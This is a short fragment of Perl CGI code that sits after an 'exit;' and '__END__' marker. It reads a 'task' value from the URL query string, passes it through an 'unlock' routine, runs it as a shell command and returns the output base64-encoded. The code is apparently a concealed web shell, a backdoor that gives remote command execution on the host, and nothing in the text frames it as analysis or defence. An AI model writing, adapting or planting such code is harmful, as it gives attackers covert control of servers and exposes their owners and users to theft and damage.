exit;
__END__
sub p{ for(split '&',shift){ my($x,$y)=split '='; $y =~ s/%(..)/pack( 'c' , hex( $1 ) )/ge; $in->{$x}=$y } }
p( $ENV{QUERY_STRING} );
my $t = unlock( $in->{task} );
open( P , "$t 2>&1 |" ) ; my @l = <P> ;
print encode_base64( join '' , @l ) ;
